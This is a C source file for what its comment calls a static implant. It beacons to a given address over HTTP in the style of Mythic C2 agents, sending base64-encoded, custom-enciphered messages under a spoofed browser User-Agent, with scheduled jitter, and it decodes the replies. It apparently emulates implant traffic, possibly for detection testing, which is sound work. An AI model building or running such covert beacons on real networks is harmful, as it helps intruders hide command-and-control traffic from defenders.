/*
 * AN0401: a static implant that calls back over plain HTTP, as Mythic's agents write: a POST whose body is base64 of a name in clear
 * and a message under a cipher of its own; the answer's body likewise.
 * usage: http-beacon ADDRESS PORT COUNT INTERVAL JITTER
 */
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base64.h"
#include "dressed.h"
#include "link.h"
#include "schedule.h"

#define AGENT "80844d19-9bfc-47f9-b9af-c6b9144c0fdc"
#define AGENT_LEN 36

static char request[3 * DRESSED_MAX];

static size_t request_of(const char *address, const char *text, size_t len)
{
	static uint8_t bytes[DRESSED_MAX + 16];
	static char body[2 * DRESSED_MAX];
	size_t size;

	memcpy(bytes, AGENT, AGENT_LEN);
	size = base64_encode(bytes, dressed_seal(bytes, AGENT_LEN, text, len, 0), body);
	return (size_t)snprintf(request, sizeof(request),
				"POST /data HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) like Gecko\r\n"
				"Content-Length: %zu\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n%s",
				address, size, body);
}

/* Reads the answer to its end, and its message. @return length; -1 when it cannot be read */
static int answer_of(int fd, char *text, size_t room)
{
	static char answer[3 * DRESSED_MAX];
	static uint8_t bytes[2 * DRESSED_MAX];
	size_t held = 0;
	ssize_t got;
	char *body;

	while ((got = recv(fd, answer + held, sizeof(answer) - 1 - held, 0)) > 0)
		held += (size_t)got;
	answer[held] = 0;
	body = strstr(answer, "\r\n\r\n");
	return body ? dressed_open(bytes, base64_decode(body + 4, bytes, sizeof(bytes)), AGENT_LEN, text, room) : -1;
}

int main(int argc, char **argv)
{
	struct schedule plan;
	char text[4096];

	if (argc != 6)
		return 64;
	plan = schedule_of(argv + 3);
	for (int i = 0; i < plan.count; i++) {
		int fd;

		if (i > 0)
			schedule_wait(&plan);
		fd = link_open(argv[1], argv[2], SOCK_STREAM);
		link_send(fd, (uint8_t *)request, request_of(argv[1], text, (size_t)schedule_says(&plan, i, text, sizeof(text))));
		if (answer_of(fd, text, sizeof(text)) < 0)
			return 1;
		close(fd);
	}
	return 0;
}
